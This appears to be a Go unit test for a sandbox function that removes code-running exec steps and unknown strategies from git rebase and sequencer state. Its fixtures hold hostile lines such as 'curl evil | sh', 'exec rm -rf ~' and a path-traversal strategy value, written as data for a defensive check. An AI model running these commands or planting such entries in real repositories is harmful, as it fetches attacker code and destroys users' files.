package rootfs

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestGitStateThatRunsCodeIsRemoved(t *testing.T) {
	ws, _ := tree(t)
	todo := "pick 1111111 first\n  exec make pwn\nbreak\nx\tcurl evil | sh\n# exec in a comment stays\npick 2222222 second\n"
	write := func(rel, s string) {
		p := filepath.Join(ws, rel)
		must(t, os.MkdirAll(filepath.Dir(p), 0o755))
		must(t, os.WriteFile(p, []byte(s), 0o644))
	}
	write(".git/rebase-merge/git-rebase-todo", todo)
	write(".git/sequencer/todo", "pick 3333333 third\nexec rm -rf ~\n")
	write(".git/rebase-merge/strategy", "../../../tmp/evil\n")
	write(".git/sequencer/opts", "[options]\n\tstrategy = evil\n\tsignoff = true\n")
	f := newFS(t, ws, Options{GitWrite: true})
	notes := f.DisarmGitState()
	if len(notes) != 4 || !strings.Contains(notes[0], "removed 2 exec step(s) from .git/rebase-merge/git-rebase-todo") || !strings.Contains(notes[0], "make pwn") {
		t.Fatalf("notes %q", notes)
	}
	read := func(rel string) string {
		b, _ := os.ReadFile(filepath.Join(ws, rel))
		return string(b)
	}
	if got := read(".git/rebase-merge/git-rebase-todo"); got != "pick 1111111 first\nbreak\n# exec in a comment stays\npick 2222222 second\n" {
		t.Errorf("rebase todo %q", got)
	}
	if got := read(".git/sequencer/todo"); got != "pick 3333333 third\n" {
		t.Errorf("sequencer todo %q", got)
	}
	if _, err := os.Stat(filepath.Join(ws, ".git/rebase-merge/strategy")); err == nil {
		t.Error("an unknown strategy was kept")
	}
	if got := read(".git/sequencer/opts"); got != "[options]\n\tsignoff = true\n" {
		t.Errorf("sequencer opts %q", got)
	}
	if again := f.DisarmGitState(); len(again) != 0 {
		t.Errorf("a second pass found %q", again)
	}
	t.Run("ordinary state is left alone", func(t *testing.T) {
		write(".git/rebase-merge/git-rebase-todo", "pick 1 a\nexecutable-looking words stay\n")
		write(".git/rebase-merge/strategy", "ort\n")
		if notes := f.DisarmGitState(); len(notes) != 0 {
			t.Errorf("notes %q", notes)
		}
	})
}
